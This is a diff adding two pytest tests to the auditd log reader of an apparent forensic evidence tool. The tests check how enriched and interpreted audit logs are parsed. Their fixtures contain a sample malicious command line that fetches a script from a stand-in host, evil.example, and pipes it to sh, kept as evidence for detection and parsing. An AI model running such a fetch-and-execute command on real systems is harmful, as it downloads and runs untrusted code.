@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import pytest
-from tests.evidence.artefact_kit import shows_plant
+from tests.evidence.artefact_kit import read_member, shows_plant
 from tests.evidence.reader_contract import holds_with_and_without_sieve, survives_anything
 from tests.evidence_kit import read_bytes
 
@@ -12,7 +12,7 @@ from nachsorge.evidence.linux.audit_fields import peer_of
 from nachsorge.evidence.readers.auditd import WIDE, Auditd
 from nachsorge.model.evidence import Software
 from nachsorge.model.times import Span, parse_instant
-from nachsorge.model.words import Kind, Platform, Reason, Telemetry
+from nachsorge.model.words import Kind, Platform, Reason, Status, Telemetry
 
 READER = Auditd()
 STAMP = "msg=audit(1680000000.123:{}):"
@@ -57,6 +57,29 @@ def test_the_lines_of_one_event_are_one_record():
     assert (Kind.ADDRESS, "192.0.2.5") in {(v.kind, v.text) for v in connect.values}
     assert (connect.event["UID"], run.product, run.service) == ("root", "linux", "auditd")
     assert (ledger.records, ledger.unreadable, ledger.platform) == (2, 0, Platform.LINUX)
+
+
+def test_an_enriched_log_names_users_and_calls():
+    enriched = LOG.replace(b"key=(null)", b'key=(null)\x1dARCH=x86_64 SYSCALL=execve AUID="kim" UID="root"')
+    assert reader_for(enriched, "audit.log").name == "auditd"
+    (run, connect), ledger = read_bytes(READER, enriched)
+    assert (run.event["AUID"], run.event["SYSCALL"], connect.event["SYSCALL"]) == ("kim", "execve", "connect")
+    assert run.event["CommandLine"] == "sh -c curl http://evil.example/x | sh"  # the raw part is what it was
+    assert (ledger.records, ledger.unreadable) == (2, 0)
+
+
+def test_an_interpreted_report_is_searched_as_text_and_covers_nothing():
+    report = (
+        b"----\ntype=PROCTITLE msg=audit(03/28/2023 12:40:00.123:7) : proctitle=sh -c curl http://evil.example/x\n"
+        b"type=SYSCALL msg=audit(03/28/2023 12:40:00.123:7) : arch=x86_64 syscall=execve success=yes exe=/usr/bin/sh\n"
+    )
+    assert READER.accepts(report, "audit.txt") == 0
+    found = reader_for(report, "audit.txt")
+    assert found is not None and found.name == "plain_text"
+    records, reading = read_member(found, report, "audit.txt")
+    assert reading.status is Status.UNKNOWN_FORMAT and "covers nothing" in reading.note
+    assert any("http://evil.example/x" in value.text for record in records for value in record.values)
+    assert all(not seen.spans for seen in reading.seen)
 
 
 def test_lines_of_two_events_may_be_mixed():
